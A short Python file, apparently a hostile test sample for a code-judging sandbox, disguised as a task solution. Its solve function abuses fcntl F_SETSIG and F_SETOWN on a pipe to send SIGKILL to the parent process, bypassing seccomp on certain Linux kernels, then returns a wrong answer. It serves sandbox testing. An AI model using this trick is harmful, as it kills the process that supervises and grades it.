# full: seccomp; Linux 6.7 to 6.11 would send any signal, to any process of the user, when the pipe becomes readable
import contextlib
import fcntl
import os
import signal
import time


def solve(a):
    reading, writing = os.pipe()
    with contextlib.suppress(OSError):
        fcntl.fcntl(reading, 10, int(signal.SIGKILL))  # F_SETSIG
        fcntl.fcntl(reading, fcntl.F_SETOWN, os.getppid())
        fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writing, b"now")
        time.sleep(0.2)
    return a * 0
